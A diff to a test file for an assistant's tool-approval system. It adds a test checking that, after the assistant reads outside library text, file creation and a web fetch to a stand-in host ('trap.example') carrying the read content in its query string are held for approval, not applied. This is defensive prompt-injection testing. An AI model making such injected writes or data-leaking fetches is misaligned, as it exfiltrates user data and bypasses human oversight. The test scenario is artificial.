@@ -1,4 +1,12 @@
-import { linkSync, lstatSync, readdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs'
+import {
+  existsSync,
+  linkSync,
+  lstatSync,
+  readdirSync,
+  readFileSync,
+  renameSync,
+  writeFileSync,
+} from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
 import { type Arena, openArena, snapshotOf, untouched } from './arena'
@@ -23,6 +31,9 @@ beforeAll(async () => {
   )
 }, limitMs * 2)
 afterAll(() => arena.close())
+
+/** Those who may approve by their next move: what they read raises nothing. */
+const byHand = ['a person at the window', 'the command line']
 
 /** A new file of the granted folder. */
 function newFile(): string {
@@ -75,6 +86,33 @@ describe.each(Object.keys(callers))('%s', { timeout: limitMs }, (name) => {
     if (!answeredAtOnce.includes(name)) expect((await arena.approve(proposal)).status).toBe('applied')
     expect(readFileSync(elsewhere, 'utf8')).toBe(before)
   })
+
+  it.skipIf(name === 'the command line with --approve safe')(
+    'changes and sends nothing unasked once it was told text from outside, whatever policy there is',
+    async () => {
+      const tools = ['create_file', 'fetch_web_content']
+      for (const tool of tools) {
+        await arena.window.policies.set({ assistant: 'default', tool, policy: 'auto' })
+      }
+      const path = join(arena.docs, `obeyed-${nextNumber()}.txt`)
+      const [read, ...asked] = await (await callerNamed(name, arena))([
+        { tool: 'search_library', input: { query: 'high water' } },
+        { tool: 'create_file', input: { path, content: 'obeyed' } },
+        { tool: 'fetch_web_content', input: { url: 'https://trap.example/?high-water-is-at-noon' } },
+      ])
+      for (const tool of tools) {
+        await arena.window.policies.set({ assistant: 'default', tool, policy: null })
+      }
+      expect(read?.kind).toBe('answered')
+      expect(asked.map(verdict)).toEqual(tools.map(() => 'proposed'))
+      expect(existsSync(path)).toBe(false)
+      for (const outcome of asked) {
+        if (outcome.kind !== 'proposed' || byHand.includes(name)) continue
+        const { raisedBecause } = await arena.window.proposals.get({ id: outcome.proposalId })
+        expect(raisedBecause.join(' ')).toMatch(/has read “Tides” from the library/)
+      }
+    },
+  )
 
   it('leaves nothing behind that other accounts can read', async () => {
     const call = await callerNamed(name, arena)
